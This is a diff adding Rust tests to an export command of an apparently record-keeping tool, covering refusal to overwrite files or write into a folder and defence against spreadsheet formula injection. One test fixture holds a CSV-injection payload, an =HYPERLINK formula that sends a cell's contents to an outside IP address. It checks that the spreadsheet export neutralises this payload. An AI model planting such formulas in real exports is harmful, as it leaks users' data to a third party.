@@ -73,6 +73,16 @@ fn each_form_says_what_the_record_says_and_opens_nothing() {
         ""
     );
     assert_eq!(std::fs::read_to_string(&out).unwrap(), csv);
+    std::fs::write(&out, "evidence").unwrap();
+    let again = ["--format", "csv", "--action", "update", "--out", &to];
+    place.run("export", &again).refused(2, "`--overwrite` puts the new one in its place");
+    assert_eq!(std::fs::read_to_string(&out).unwrap(), "evidence");
+    assert_eq!(answered(place.run("export", &[&again[..], &["--overwrite"]].concat())), "");
+    assert_eq!(std::fs::read_to_string(&out).unwrap(), csv);
+    let folder = place.path("log").display().to_string();
+    place
+        .run("export", &["--format", "csv", "--overwrite", "--out", &folder])
+        .refused(2, "is a folder");
     assert_eq!(place.run("shred", &["customer/3", "--reason", "r", "--actor", "dpo"]).code, 0);
     assert!(export("patch").contains("\"[erased]\"") && !export("patch").contains("[sealed"));
     place.run("export", &["--format", "xml"]).refused(2, "possible values");
@@ -80,6 +90,25 @@ fn each_form_says_what_the_record_says_and_opens_nothing() {
     place
         .run("export", &["--format", "csv", "--checkpoint", &to])
         .refused(2, "goes with `--format bundle`");
+}
+
+#[test]
+fn a_spreadsheet_takes_nothing_for_a_formula_and_csv_keeps_every_value() {
+    let place = place();
+    let formula = "=HYPERLINK(\"http://198.51.100.1/?\"&A1,\"x\")";
+    let change = json!({"entity": {"type": "product", "id": "7"}, "action": "create", "before": null,
+        "after": {"note": formula, "phone": "+49 221 1", "temperature": -5, "title": "a = b"}});
+    assert_eq!(place.append(change.to_string().as_bytes()).code, 0);
+    let export = |form| answered(place.run("export", &["--format", form, "--type", "product"]));
+    let quoted = formula.replace('"', "\"\"");
+    let (exact, guarded) = (export("csv"), export("spreadsheet"));
+    assert!(exact.contains(&format!(",\"{quoted}\",")) && exact.contains(",+49 221 1,"), "{exact}");
+    assert!(guarded.contains(&format!(",\"'{quoted}\",")), "{guarded}");
+    for cell in [",'+49 221 1,", ",-5,", ",a = b,"] {
+        assert!(guarded.contains(cell), "{cell}: {guarded}");
+    }
+    let without = guarded.replace("'=", "=").replace("'+", "+");
+    assert_eq!(without, exact);
 }
 
 #[test]
